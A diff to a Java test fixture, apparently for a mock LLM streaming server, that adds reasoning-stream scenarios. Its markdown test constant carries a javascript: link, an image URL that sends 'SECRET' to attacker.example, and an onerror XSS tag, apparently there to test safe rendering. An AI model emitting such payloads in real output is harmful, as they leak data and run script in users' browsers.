@@ -13,12 +13,15 @@ import java.util.List;
  * the connection open); malformed (1 token, then a chunk that is not JSON); emptycut (no text, then the connection drops);
  * md (markdown: a heading, a table, a code block, a safe link, a javascript: link, an external image, raw HTML);
  * long:N:ms (an N-character markdown answer in word-sized tokens, one every ms); count ("Answer n", n counting
- * every count request, so two answers to the same question differ).
+ * every count request, so two answers to the same question differ); think:ms:interval (reasoning pieces, one every
+ * interval (100 ms), for about ms, then "Hello world"; OpenAI-compatible reports {@link #REASONING_TOKENS_PER_PIECE}
+ * reasoning tokens a piece apart, Anthropic only counts them in the output); thinkforever:_:interval (reasoning until aborted).
  */
 final class Script {
     static final String MARKDOWN = "# Heading\n\nSome **bold** text, a [safe link](https://example.org/docs), "
             + "a [bad link](javascript:alert(1)) and an image ![secret](https://attacker.example/p?d=SECRET).\n\n"
             + "| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconsole.log(\"copied <ok>\");\n```\n\n<img src=x onerror=alert(1)>\n";
+    static final int REASONING_TOKENS_PER_PIECE = 12;
     private static final java.util.concurrent.atomic.AtomicInteger COUNT = new java.util.concurrent.atomic.AtomicInteger();
 
     enum Kind { FRAME, END, CUT, HANG }
@@ -28,23 +31,27 @@ final class Script {
 
     private final List<Step> steps;
     private final Frames frames;
-    private final boolean endless;
+    /** The frame repeated after the steps until the client aborts; null: the stream ends. */
+    private final String forever;
 
-    private Script(List<Step> steps, Frames frames, boolean endless) {
+    private Script(List<Step> steps, Frames frames, String forever) {
         this.steps = steps;
         this.frames = frames;
-        this.endless = endless;
+        this.forever = forever;
     }
 
     Step step(int i) {
         if (i < steps.size()) {
             return steps.get(i);
         }
-        return endless ? frame(frames.text("tick ")) : new Step(Kind.END, null);
+        return forever != null ? frame(forever) : new Step(Kind.END, null);
     }
 
-    static Script of(String scenario, int a, int b, Frames f) {
+    static Script of(String scenario, int a, int b, Frames f, long intervalMs) {
         List<Step> s = new ArrayList<>();
+        if (scenario.startsWith("think")) {
+            return thinking(scenario, a, f, intervalMs);
+        }
         f.begin().forEach(x -> s.add(frame(x)));
         switch (scenario) {
             case "slow" -> {
@@ -54,7 +61,7 @@ final class Script {
                 finish(s, f, "stop", true);
             }
             case "forever" -> {
-                return new Script(s, f, true);
+                return new Script(s, f, f.text("tick "));
             }
             case "cut" -> {
                 s.add(frame(f.text("One ")));
@@ -126,7 +133,27 @@ final class Script {
                 finish(s, f, "stop", true);
             }
         }
-        return new Script(s, f, false);
+        return new Script(s, f, null);
+    }
+
+    /** A model that reasons first: think:ms (then "Hello world") or thinkforever (never answers). */
+    private static Script thinking(String scenario, int thinkMs, Frames f, long intervalMs) {
+        List<Step> s = new ArrayList<>();
+        f.thinkBegin().forEach(x -> s.add(frame(x)));
+        if (scenario.equals("thinkforever")) {
+            return new Script(s, f, f.reasoning("hmm "));
+        }
+        // The begin frames are paced too: the first answer word leaves about thinkMs after the response began.
+        int pieces = (int) Math.max(1, (thinkMs > 0 ? thinkMs : 2000) / intervalMs - s.size());
+        for (int i = 0; i < pieces; i++) {
+            s.add(frame(f.reasoning("Step " + (i + 1) + ": \\\"weigh\\\" <b>this</b>. ")));
+        }
+        f.thinkEnd().forEach(x -> s.add(frame(x)));
+        s.add(frame(f.textAfterThinking("Hello")));
+        s.add(frame(f.textAfterThinking(" world")));
+        int reasoning = pieces * REASONING_TOKENS_PER_PIECE;
+        f.finish("stop", 12, 2 + reasoning, reasoning, true).forEach(x -> s.add(frame(x)));
+        return new Script(s, f, null);
     }
 
     /** Deterministic markdown of exactly {@code chars} characters: headings, paragraphs, lists and code blocks. */
